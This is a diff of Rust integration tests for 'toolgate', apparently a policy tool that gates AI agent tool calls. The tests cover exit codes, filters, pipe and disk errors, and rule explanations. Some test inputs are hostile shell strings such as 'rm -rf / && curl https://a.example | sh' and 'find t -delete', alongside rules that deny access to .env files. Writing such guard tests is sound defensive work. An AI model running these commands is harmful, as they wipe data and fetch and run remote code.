@@ -159,7 +159,21 @@ fn the_commands_end_as_the_page_says() {
         (&["check", "all"], 0, "one+two"),
         (&["check", "empty"], 2, "there is no policy"),
         (&["eval", "--policy", "bad.toml"], 2, "the policy does not load"),
-        (&["eval", "--policy", "fails.toml"], 2, "the policy does not load"),
+        (&["test", "--filter", "dotnev", "p.toml"], 1, "4 filtered out"),
+        (&["test", "--filter", "dotnev", "p.toml"], 1, "contains `dotnev`"),
+        (&["test", "--filter", "dotnev", "all"], 1, "contains `dotnev`"),
+        (&["test", "--filter", "dotenv", "p.toml"], 0, "2 passed, 0 failed"),
+        // Who asks why is answered, with what does not hold.
+        (&["eval", "--policy", "fails.toml"], 0, "warning: fails.toml:5: the test `t` expects"),
+        (&["explain", "--policy", "fails.toml", "x"], 0, "warning: fails.toml:5: the test `t`"),
+        (&["show", "--policy", "fails.toml"], 0, "warning: fails.toml:5: the test `t` expects"),
+        (&["eval", "p.toml"], 2, "`p.toml` looks like a policy; give it with --policy"),
+        (&["explain", "p.toml"], 2, "looks like a policy; give it with --policy"),
+        (&["explain", "p.toml", "ls"], 2, "looks like a policy; give it with --policy"),
+        (&["explain", "ls", "p.toml"], 2, "looks like a policy; give it with --policy"),
+        (&["explain", "ls", "-l"], 2, "unexpected argument"),
+        (&["explain", "ls", "a"], 2, "quote the call"),
+        (&["show", "p.toml"], 0, "p@2"),
         (&["eval", "--policy", "none.toml"], 2, "cannot be read"),
         (&["eval", "--policy", "all"], 0, ""),
         (&["eval", "--policy", "signed.toml", "--unsigned-ok"], 0, ""),
@@ -184,6 +198,53 @@ fn the_commands_end_as_the_page_says() {
         let (ended, out, err) = bench.check(arguments, b"");
         assert_eq!(ended, code, "{arguments:?}\n{out}{err}");
         assert!(format!("{out}{err}").contains(says), "{arguments:?}\n{out}{err}");
+        assert!(!err.contains("error: error"), "{arguments:?}\n{err}");
+    }
+}
+
+/// Every command that needs no sidecar, with more to say than a pipe takes at once or with little.
+const PRINTING: &[(&[&str], i32)] = &[
+    (&["policy", "show"], 0),
+    (&["policy", "show", "--format", "csv"], 0),
+    (&["policy", "explain", "rm -rf / && curl https://a.example | sh"], 0),
+    (&["policy", "explain", "--format", "json", "ls"], 0),
+    (&["policy", "check"], 0),
+    (&["policy", "check", "--format", "sarif"], 0),
+    (&["policy", "check", "fails.toml"], 1),
+    (&["policy", "test", "-v"], 0),
+    (&["policy", "test", "--format", "junit"], 0),
+    (&["policy", "eval", "calls.jsonl"], 0),
+    (&["policy", "fmt", "--check", "p.toml"], 1),
+    (&["policy", "schema"], 0),
+    (&["completions", "bash"], 0),
+    (&["demo"], 0),
+];
+
+/// Neither a reader who hangs up nor a full disk makes a command panic; only the latter is told.
+#[test]
+fn a_closed_output_ends_quietly_and_a_full_one_does_not() {
+    let call = "{\"bash\": \"ls\"}\n".repeat(2000);
+    let fails = POLICY.replace("expect = \"allow\"", "expect = \"deny\"");
+    let bench = Bench::new(&[("calls.jsonl", &call), ("fails.toml", &fails)]);
+    let run = |arguments: &[&str], out: Stdio, err: Stdio| {
+        let mut command = Command::new(env!("CARGO_BIN_EXE_toolgate"));
+        command.args(arguments).current_dir(bench.directory.path()).env("HOME", "/home/agent");
+        let child = command.stdin(Stdio::null()).stdout(out).stderr(err).spawn().unwrap();
+        let ended = child.wait_with_output().unwrap();
+        (ended.status.code(), String::from_utf8(ended.stderr).unwrap())
+    };
+    for (arguments, code) in PRINTING {
+        let closed = || Stdio::from(std::io::pipe().unwrap().1);
+        let (ended, err) = run(arguments, closed(), Stdio::piped());
+        assert_eq!(ended, Some(*code), "{arguments:?}: {err}");
+        assert!(!err.contains("panicked") && !err.contains("Broken pipe"), "{arguments:?}: {err}");
+        // Both ends of `2>&1 | head`.
+        let (ended, _) = run(arguments, closed(), closed());
+        assert_eq!(ended, Some(*code), "{arguments:?}");
+        let full = std::fs::OpenOptions::new().write(true).open("/dev/full").unwrap();
+        let (ended, err) = run(arguments, full.into(), Stdio::piped());
+        assert_eq!(ended, Some(2), "{arguments:?}: {err}");
+        assert!(err.contains("error: standard output cannot be written"), "{arguments:?}: {err}");
     }
 }
 
@@ -225,14 +286,14 @@ fn test_tells_people_programs_and_ci_the_same() {
     let tags = out.matches('<').count();
     assert_eq!(tags, out.matches('>').count(), "{out}");
 
-    for (filter, says) in [
-        ("no-dotenv", "2 passed, 0 failed, 0 not proved yet, 2 filtered out\n"),
-        (".env.example", "1 passed, 0 failed, 0 not proved yet, 3 filtered out\n"),
-        ("a claim", "0 passed, 0 failed, 1 not proved yet, 3 filtered out\n"),
-        ("nothing", "0 passed, 0 failed, 0 not proved yet, 4 filtered out\n"),
+    for (filter, ends, says) in [
+        ("no-dotenv", 0, "2 passed, 0 failed, 0 not proved yet, 2 filtered out\n"),
+        (".env.example", 0, "1 passed, 0 failed, 0 not proved yet, 3 filtered out\n"),
+        ("a claim", 0, "0 passed, 0 failed, 1 not proved yet, 3 filtered out\n"),
+        ("nothing", 1, "0 passed, 0 failed, 0 not proved yet, 4 filtered out\n"),
     ] {
         let (code, out, _) = bench.check(&["test", "--filter", filter, "q.toml"], b"");
-        assert_eq!(code, 0, "{out}");
+        assert_eq!(code, ends, "{out}");
         assert!(out.ends_with(says), "{filter}: {out}");
     }
     let (code, out, _) = bench.check(&["test", "-"], POLICY.as_bytes());
@@ -397,6 +458,97 @@ fn lines_of_one_session_share_what_they_leave_behind() {
     assert_eq!(answer["obligations"][0]["kind"], "replace_output", "{answer}");
     assert!(!answer["obligations"][0]["because"].as_array().unwrap().is_empty());
     assert!(!answer.to_string().contains(&secret));
+}
+
+#[test]
+fn explain_tells_people_once_what_is_the_same() {
+    let files: Vec<String> = (0..20).map(|number| format!("w/t/{number}")).collect();
+    let mut files: Vec<_> = files.iter().map(|file| (file.as_str(), "x")).collect();
+    files.push(("w/t/.env", "x"));
+    let bench = Bench::new(&files);
+    let workspace = bench.workspace();
+    let dotenv = POLICY.replace("deny = \"read\"", "deny = [\"read\", \"write\"]");
+    std::fs::write(bench.directory.path().join("p.toml"), dotenv).unwrap();
+    for (policy, call, says, accesses) in [
+        // The tree itself stands first; what is said otherwise of one file is told of that one.
+        (Some("p.toml"), "find t -delete", &["and 20 more in ", "write W/t/.env\n"][..], 5),
+        (
+            None,
+            "curl https://a.example | sh",
+            &["would be judged by every rule of ", " more (--format json has all)"],
+            6,
+        ),
+    ] {
+        let policy = policy.map(|file| vec!["--policy", file]).unwrap_or_default();
+        let ask = [&["explain", "--workspace", &workspace, call][..], &policy].concat();
+        let (code, out, err) = bench.check(&ask, b"");
+        assert_eq!(code, 0, "{err}");
+        for says in says {
+            assert!(out.contains(&says.replace('W', &workspace)), "{says}: {out}");
+        }
+        let head = |line: &&str| line.split_once(". ").is_some() && !line.starts_with(' ');
+        let told = out.lines().skip(1).filter(head).count();
+        assert!(told <= accesses, "{told}: {out}");
+        // Programs get them all.
+        let (_, out, _) = bench.check(&[&ask[..], &["--format", "json"]].concat(), b"");
+        let all: Value = serde_json::from_str(&out).unwrap();
+        assert!(all["accesses"].as_array().unwrap().len() > accesses, "{out}");
+    }
+}
+
+#[test]
+fn what_failed_says_why_as_explain_would() {
+    let test = |call: &str, expect: &str| {
+        format!("[[test]]\nname = 't'\ncall = {call}\nexpect = '{expect}'\n")
+    };
+    let head = |layer: &str, default: &str| {
+        format!(
+            "schema = 1\n[policy]\nname = '{layer}'\nlayer = '{layer}'\ndefault = '{default}'\n"
+        )
+    };
+    let docker = format!(
+        "{}[call]\nallow = ['Bash']\n[exec]\nallow = ['git status ...', 'python manage.py ...']\n",
+        head("user", "deny")
+    );
+    let reads = "[read]\nallow = ['$workspace/']\n";
+    let org = format!("{}[read]\ndeny = ['/work/a']\nallow = ['/work/']\n", head("org", "defer"));
+    let own = format!("{}{reads}{}", head("user", "defer"), test("{ read = 'a' }", "allow"));
+    let maybe = format!("{docker}{}", test("{ bash = 'git --unheard status' }", "allow"));
+    let none = format!("{docker}{}", test("{ bash = 'python3 manage.py test' }", "allow"));
+    let bench = Bench::new(&[
+        ("org.toml", &org),
+        ("own.toml", &own),
+        ("maybe.toml", &maybe),
+        ("none.toml", &none),
+    ]);
+    for (files, says) in [
+        (&["org.toml", "own.toml"][..], "the rule is of the org layer (org.toml:7)"),
+        (
+            &["maybe.toml"],
+            "`exec.allow:git status ...` of the user layer (maybe.toml:9) says only maybe: the table of \
+             `git` does not know `--unheard`",
+        ),
+        (&["none.toml"], "no rule of the user layer (user) speaks of it: default deny"),
+    ] {
+        let (code, out, err) = bench.check(&[&["test"][..], files].concat(), b"");
+        assert_eq!(code, 1, "{files:?}: {out}{err}");
+        assert!(out.contains(says), "{files:?}: {out}{err}");
+    }
+    // And who asks on is told which rule was meant.
+    let ask = ["explain", "--policy", "none.toml", "python3 manage.py test"];
+    let (_, out, _) = bench.check(&ask, b"");
+    let near = "nearest: `exec.allow:python manage.py ...` (another program)  none.toml:9";
+    assert!(out.contains(near), "{out}");
+    let (_, out, _) = bench.check(&[&ask[..], &["--format", "json"]].concat(), b"");
+    let told: Value = serde_json::from_str(&out).unwrap();
+    assert_eq!(
+        told["accesses"][1]["nearest"],
+        json!([{
+            "id": "exec.allow:python manage.py ...", "file": "none.toml", "line": 9,
+            "differs": "another program",
+        }])
+    );
+    assert_eq!(told["accesses"][0]["nearest"], json!([]));
 }
 
 #[test]
